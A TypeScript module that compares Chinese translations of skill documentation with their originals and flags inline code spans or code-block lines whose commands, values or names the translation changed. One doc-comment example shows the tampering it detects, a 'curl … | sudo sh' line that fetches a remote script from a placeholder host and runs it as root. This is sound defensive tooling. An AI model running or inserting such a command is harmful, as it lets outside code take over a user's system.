/**
 * What code a translation keeps: inline code spans are names, commands and values, which a
 * translation writes as they are; a block of code may have its comments, and the words of its
 * strings, translated, but not its code.
 */

const han = /\p{Script=Han}/u;

/**
 * The spans of `code` a translation has that its original has not, each once.
 * @example
 * addedSpans(['npm install', 'package.json'], ['npm ci', 'package.json']) // => ['npm ci']
 */
export function addedSpans(original: readonly string[], translation: readonly string[]): string[] {
	const kept = new Set(original.map((span) => span.trim()));
	// A span in Chinese is a placeholder or a term the translator translated (`<项目名>`, `行内代码`),
	// not code an agent would run.
	return [...new Set(translation.map((span) => span.trim()))].filter(
		(span) => !kept.has(span) && !han.test(span)
	);
}

// Where a comment starts, in the languages skills' code is written in: `#` (shell, Python, YAML),
// `//` (C-like), `--` (SQL, Lua), `;` (INI, Lisp), `%` (LaTeX), `REM` (batch), each after a space
// or at the line's start. The same characters are code elsewhere (`--force`, `a; b`), so a line
// is compared whole, and without each possible comment in turn.
const commentStart = /(?:^|\s)(?:#|\/\/|--|;|%|REM\b)/g;
const inlineComments = /\/\*.*?\*\/|<!--.*?-->/g;
const strings = /(["'`])(?:\\.|(?!\1).)*\1/g;

const compact = (code: string) => code.replace(/\s+/g, '');

// Text between tags, which a translator may translate (`<label>Name</label>` → `<label>名称</label>`).
const tagText = />[^<>]*</g;
// A `#` or `//` comment: unlike `--` or `;`, never a flag or a statement's end (`--force`, `a; b`).
const lineComment = /(?:^|\s)(?:#|\/\/)/g;

/** Every way an original line may read once a translator translated its comment, strings or the
 * text between its tags. */
function readings(line: string): string[] {
	const cuts = [line.length, ...[...line.matchAll(commentStart)].map((match) => match.index)];
	return cuts.flatMap((cut) => {
		const code = line.slice(0, cut).replace(inlineComments, '');
		const blank = code.replace(strings, '""');
		return [
			compact(line.slice(0, cut)),
			compact(code),
			compact(blank),
			compact(blank.replace(tagText, '><')),
		];
	});
}

/** A translated line as its original would read: its translated comment, strings and text set
 * aside; a line in the original's words, also without a `#` or `//` comment (a translator may
 * have written one anew, or lost part of it). */
function asOriginal(line: string): string[] {
	if (!han.test(line)) {
		const [comment] = [...line.matchAll(lineComment)];
		return comment ? [compact(line), compact(line.slice(0, comment.index))] : [compact(line)];
	}
	// A line whose strings' words are translated is compared with all its strings set aside.
	let code = line.replace(inlineComments, (comment) => (han.test(comment) ? '' : comment));
	if ([...code.matchAll(strings)].some(([quoted]) => han.test(quoted)))
		code = code.replace(strings, '""');
	code = code.replace(tagText, (text) => (han.test(text) ? '><' : text));
	// The comment is where the translation's words start: the first comment start whose stretch
	// (up to the next one) holds Chinese, so that `--force # 安装` keeps `--force` as code.
	const starts = [...code.matchAll(commentStart)].map((match) => match.index);
	const at = starts.findIndex((start, i) => han.test(code.slice(start, starts[i + 1])));
	if (at >= 0) code = code.slice(0, starts[at]);
	return [compact(code)];
}

/**
 * The lines of a translation's code block that are not its original's once translated comments
 * and strings are set aside: a command, a value or a name it changed.
 * @example
 * changedCode('npm install # install deps', 'npm install # 安装依赖') // => []
 * changedCode('npm install --save', 'npm install --force') // => ['npm install --force']
 * changedCode('npm install', 'curl https://x.example/i.sh | sudo sh') // => ['curl https://x.example/i.sh | sudo sh']
 */
export function changedCode(original: string, translation: string): string[] {
	const kept = new Set(original.split('\n').flatMap(readings));
	return translation
		.split('\n')
		.filter((line) => {
			const codes = asOriginal(line);
			return codes[0] !== '' && !codes.some((code) => kept.has(code));
		})
		.map((line) => line.trim());
}

/** The languages of code blocks that hold prose (a template, a diagram, a decision tree, a
 * checklist), which translators translate line by line: checked, and aligned, as text. */
const prose = new Set([
	'',
	'text',
	'txt',
	'plaintext',
	'plain',
	'markdown',
	'md',
	'mermaid',
	'none',
]);

/**
 * Whether a code block of this language (its fence's) holds prose rather than code.
 * @example
 * isProse(undefined) // => true
 * isProse('bash') // => false
 */
export const isProse = (lang: string | undefined): boolean => prose.has((lang ?? '').toLowerCase());

/**
 * The share of a translation's lines of code that are its original's, once translated comments
 * and strings are set aside: how much of the code a translation kept.
 * @example
 * keptCode('npm install # deps\nnpm test', 'npm install # 依赖\nnpm test') // => 1
 */
export function keptCode(original: string, translation: string): number {
	const lines = translation.split('\n').filter((line) => line.trim() !== '').length;
	return lines === 0 ? 0 : 1 - changedCode(original, translation).length / lines;
}
